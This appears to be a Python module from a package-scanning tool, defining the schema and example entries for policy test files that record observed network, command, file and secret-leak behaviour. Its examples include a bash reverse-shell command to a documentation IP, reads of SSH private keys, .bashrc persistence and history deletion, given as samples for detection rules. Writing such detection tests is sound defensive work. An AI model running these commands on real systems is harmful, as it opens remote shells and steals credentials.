"""What a test of a policy looks like: what was observed, where the package stands, what the policy must find."""

from collections.abc import Mapping

from scangate.models.analysis import Phase
from scangate.models.changes import ChangeKind
from scangate.models.lockfile import Relation, Scope
from scangate.models.observations import BAIT_PLACES, CONTACTS, LASTPYMILE_LISTS
from scangate.models.verdict import Action, Status
from scangate.policy.conditions import KINDS, PORT, RECORD_TYPE
from scangate.policy.model import Observe
from scangate.policy.shapes import HOST, KEBAB, Day, Either, Field, Flag, Integer, Many, Record, Tagged, Text, Word

PACKAGE = "pkg:npm/thing@1.2.3"
"""What a test is about where it does not say."""
REPLACED = "1.2.2"
LOCKFILE = "package-lock.json"

_PURL = Text(what="a purl with its version", pattern=r"pkg:[a-z0-9.+-]+/\S+@\S+", longest=500)
_PATH = Text(what="a path")
_SUSPECT = Text(what="a text", longest=10_000)


def _seen(observation: str, findings: str, more: str = "") -> str:
    return f"tests:\n- observe: [{{{observation}}}]\n{more}  findings: [{findings}]\n"


def _home(more: str) -> str:
    return _seen("host: collect.example", "net-on-install", f"  {more}\n")


def _finding(expected: str) -> str:
    return f"tests:\n- observe: [{{host: collect.example}}]\n  findings: [{expected}]\n"


RULE_EXAMPLE = """tests:
- rule: net-on-install
  matches:
  - host: collect.example
  spares:
  - host: collect.example
    phase: execute
"""

_PHASE = Field(
    name="phase",
    shape=Word(words=tuple(Phase)),
    doc="In which phase of the analysis; `install` where it does not say.",
    example=_seen("host: collect.example, phase: import", "net-on-import"),
)

OBSERVED: Mapping[Observe, tuple[Field, ...]] = {
    Observe.HOST: (
        Field(
            name="host",
            shape=HOST,
            doc="A host was looked up or connected to.",
            required=True,
            example=_seen("host: collect.example", "net-on-install"),
        ),
        Field(
            name="record-type",
            shape=Many(item=RECORD_TYPE, single=True),
            doc="The DNS records that were asked for.",
            example=_seen("host: cmd.collect.example, record-type: [TXT]", "net-dns-types, net-on-install"),
        ),
        Field(
            name="via",
            shape=Many(item=Word(words=CONTACTS), single=True),
            doc="How; `dns` where it does not say.",
            example=_seen("host: collect.example, via: [dns, socket]", "net-on-install"),
        ),
        _PHASE,
    ),
    Observe.SOCKET: (
        Field(
            name="socket",
            shape=Text(what="an IP address", pattern=r"[0-9A-Fa-f.:]+", longest=64),
            doc="An address was connected to, or listened on.",
            required=True,
            example=_seen("socket: 203.0.113.9, port: 443", "net-raw-ip"),
        ),
        Field(
            name="port",
            shape=PORT,
            doc="Its port.",
            required=True,
            example=_seen("socket: 203.0.113.9, port: 443", "net-raw-ip"),
        ),
        Field(
            name="named",
            shape=Flag(),
            doc="`true`: a name resolved to the address.",
            example=_seen("socket: 203.0.113.9, port: 443, named: true", ""),
        ),
        Field(
            name="hostname",
            shape=Many(item=HOST, single=True),
            doc="The names that resolved to the address, where they matter.",
            example=_seen("socket: 203.0.113.9, port: 443, hostname: files.example", ""),
        ),
        _PHASE,
    ),
    Observe.COMMAND: (
        Field(
            name="command",
            shape=Many(item=_SUSPECT, single=True),
            doc="A command was run: the list of its arguments, or one text for `sh -c`.",
            required=True,
            example=_seen('command: [bash, -c, "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"]', "cmd-reverse-shell"),
        ),
        _PHASE,
    ),
    Observe.FILE: (
        Field(
            name="file",
            shape=_PATH,
            doc="A file was touched.",
            required=True,
            example=_seen("file: /root/.ssh/id_ed25519, read: true", "file-ssh-key"),
        ),
        Field(
            name="read",
            shape=Flag(),
            doc="`true`: it was read, or looked for.",
            example=_seen("file: /root/.ssh/id_ed25519, read: true", "file-ssh-key"),
        ),
        Field(
            name="write",
            shape=Flag(),
            doc="`true`: it was written.",
            example=_seen("file: /root/.bashrc, write: true", "file-persist"),
        ),
        Field(
            name="delete",
            shape=Flag(),
            doc="`true`: it was deleted.",
            example=_seen("file: /root/.bash_history, delete: true", "file-cover-tracks"),
        ),
        _PHASE,
    ),
    Observe.BAIT: (
        Field(
            name="bait",
            shape=Text(what="a bait's name"),
            doc="A bait's value turned up.",
            required=True,
            example=_seen("bait: AWS_SECRET_ACCESS_KEY, where: argv", "bait-secret"),
        ),
        Field(
            name="where",
            shape=Word(words=BAIT_PLACES),
            doc="Where; `sent` where it does not say.",
            example=_seen("bait: AWS_SECRET_ACCESS_KEY, where: argv", "bait-secret"),
        ),
        _PHASE,
    ),
    Observe.LASTPYMILE: (
        Field(
            name="lastpymile",
            shape=_PATH,
            doc="A file of a release stands in the report.",
            required=True,
            example=_seen(
                "lastpymile: setup.py, list: high_risk, test-name: exec_used, added: true", "lpm-setup, lpm-high"
            ),
        ),
        Field(
            name="list",
            shape=Word(words=LASTPYMILE_LISTS),
            doc="In which list.",
            required=True,
            example=_seen("lastpymile: thing/extra.py, list: phantom, added: true", "lpm-phantom"),
        ),
        Field(
            name="test-name",
            shape=Text(what="a test's name"),
            doc="The test that it hit.",
            example=_seen(
                "lastpymile: setup.py, list: high_risk, test-name: exec_used, added: true", "lpm-setup, lpm-high"
            ),
        ),
        Field(
            name="test-id",
            shape=Text(what="a test's id"),
            doc="That test's id.",
            example=_seen("lastpymile: setup.py, list: high_risk, test-id: B102, added: true", "lpm-setup, lpm-high"),
        ),
        Field(
            name="line",
            shape=Integer(lowest=1, highest=10_000_000),
            doc="The hit's line.",
            example=_seen(
                "lastpymile: setup.py, list: high_risk, test-name: exec_used, line: 7, added: true",
                "lpm-setup, lpm-high",
            ),
        ),
        Field(
            name="added",
            shape=Flag(),
            doc="`true`: on a line that the source lacks.",
            example=_seen("lastpymile: setup.py, list: high_risk, test-name: exec_used, added: false", ""),
        ),
        Field(
            name="text",
            shape=_SUSPECT,
            doc="What stands there.",
            example=_seen(
                "lastpymile: setup.py, list: high_risk, test-name: exec_used, added: true, text: exec(x)",
                "lpm-setup, lpm-high",
            ),
        ),
    ),
    Observe.LOCKFILE: (
        Field(
            name="lockfile",
            shape=KEBAB,
            doc="The lockfile shows this of the package.",
            required=True,
            example=_seen("lockfile: confusion", "lock-confusion"),
        ),
        Field(
            name="detail",
            shape=Text(what="a sentence", longest=1000),
            doc="What outputs say of it.",
            example=_seen("lockfile: unknown-host, detail: It comes from cdn.example.com.", "lock-unknown-host"),
        ),
    ),
}
assert OBSERVED.keys() == KINDS.keys() - {Observe.PACKAGE}  # which is there in every test


def _records(what: str, more: tuple[Field, ...] = ()) -> Mapping[str, Record]:
    return {
        str(observe): Record(name=f"{what} ({observe})", fields=(*fields, *more))
        for observe, fields in OBSERVED.items()
    }


OBSERVATION = Tagged(name="an observation", records=_records("an observation"))
"""One thing that an analysis or a lockfile shows."""

SITUATION = (
    Field(
        name="package",
        shape=_PURL,
        doc=f"Which package; `{PACKAGE}` where it does not say (of a report: its own).",
        example=_home("package: pkg:pypi/thing@2.0"),
    ),
    Field(
        name="scope",
        shape=Word(words=tuple(Scope)),
        doc="What it is used for; `prod` where it does not say.",
        example=_home("scope: dev"),
    ),
    Field(
        name="relation",
        shape=Word(words=tuple(Relation)),
        doc="`direct`, or by way of another package.",
        example=_home("relation: transitive"),
    ),
    Field(
        name="in",
        shape=_PATH,
        doc=f"In which lockfile it stands; `{LOCKFILE}` where it does not say.",
        example=_home("in: docs/package-lock.json"),
    ),
    Field(
        name="change",
        shape=Word(words=tuple(ChangeKind)),
        doc="What happened to it since the base; `upgraded` where `replaces` or `earlier` stands.",
        example=_home("change: added"),
    ),
    Field(
        name="replaces",
        shape=Text(what="a version", pattern=r"\S+", longest=200),
        doc=f"The version that it replaces; `{REPLACED}` where it does not say.",
        example=_home("replaces: 1.1.0"),
    ),
    Field(
        name="earlier",
        shape=Many(item=OBSERVATION, least=0),
        doc="What that version showed; `[]`: nothing of note. Where it does not say, nobody knows.",
        example=_home("earlier: [{host: collect.example}]"),
    ),
)
"""What a package is, and where it stands."""

_ALL = Field(
    name="all",
    shape=Many(item=OBSERVATION),
    doc="Several observations of one package.",
    required=True,
    example="""tests:
- rule: chain-steal
  matches:
  - all: [{file: /root/.ssh/id_rsa, read: true}, {host: collect.example}]
  spares:
  - host: collect.example
""",
)

EXAMPLE = Tagged(
    name="an example",
    records={**_records("an example", SITUATION), "all": Record(name="an example (all)", fields=(_ALL, *SITUATION))},
)

_NAME = Field(
    name="name",
    shape=Text(what="a short text", longest=200),
    doc="What it shows, for people.",
    example=_home("name: It reports home."),
)

RULE_TEST = Record(
    name="a test of a rule",
    fields=(
        Field(
            name="rule",
            shape=KEBAB,
            doc="The rule; what others find does not count.",
            required=True,
            example=RULE_EXAMPLE,
        ),
        _NAME,
        Field(
            name="matches",
            shape=Many(item=EXAMPLE),
            doc="What it must find, each alone.",
            required=True,
            example=RULE_EXAMPLE,
        ),
        Field(
            name="spares",
            shape=Many(item=EXAMPLE),
            doc="What looks like it, and must not be found.",
            required=True,
            example=RULE_EXAMPLE,
        ),
    ),
)

_FINDING = Record(
    name="an expected finding",
    fields=(
        Field(name="rule", shape=KEBAB, doc="Its rule.", required=True, example=_finding("{rule: net-on-install}")),
        Field(
            name="action",
            shape=Word(words=tuple(Action)),
            doc="What the policy does with it.",
            example=_finding("{rule: net-on-install, action: deny}"),
        ),
        Field(
            name="allowed",
            shape=Flag(),
            doc="`true`: an `allow` entry silences it; `false`: none does.",
            example=_finding("{rule: net-on-install, allowed: false}"),
        ),
    ),
)

_EXPECTED = (
    Field(
        name="findings",
        shape=Many(item=Either(short="rule", record=_FINDING), least=0),
        doc="All findings, no more and no fewer; `[]`: none.",
        required=True,
        example=_seen("host: collect.example", "net-on-install"),
    ),
    Field(
        name="verdict",
        shape=Word(words=tuple(Status)),
        doc="The package's verdict.",
        example=_home("verdict: blocked"),
    ),
    Field(
        name="today",
        shape=Day(),
        doc="The day on which it is decided; by default the day of the run.",
        example=_home("today: 2030-01-01"),
    ),
)

OBSERVED_TEST = Record(
    name="a test of observations",
    fields=(
        Field(
            name="observe",
            shape=Many(item=OBSERVATION, least=0),
            doc="What was observed.",
            required=True,
            example=_seen("host: collect.example", "net-on-install"),
        ),
        _NAME,
        *SITUATION,
        *_EXPECTED,
    ),
)

REPORT_TEST = Record(
    name="a test of a report",
    fields=(
        Field(
            name="report",
            shape=_PATH,
            doc="A saved report, beside the file of the tests.",
            required=True,
            example="tests:\n- {report: thing-1.2.3.json, findings: [], verdict: passed}\n",
        ),
        _NAME,
        *SITUATION,
        *_EXPECTED,
    ),
)

TESTS = Many(item=Tagged(name="a test", records={"rule": RULE_TEST, "observe": OBSERVED_TEST, "report": REPORT_TEST}))

TEST_FILE = Record(
    name="a file of tests",
    fields=(Field(name="tests", shape=TESTS, doc="Tests of the policy.", required=True, example=RULE_EXAMPLE),),
)
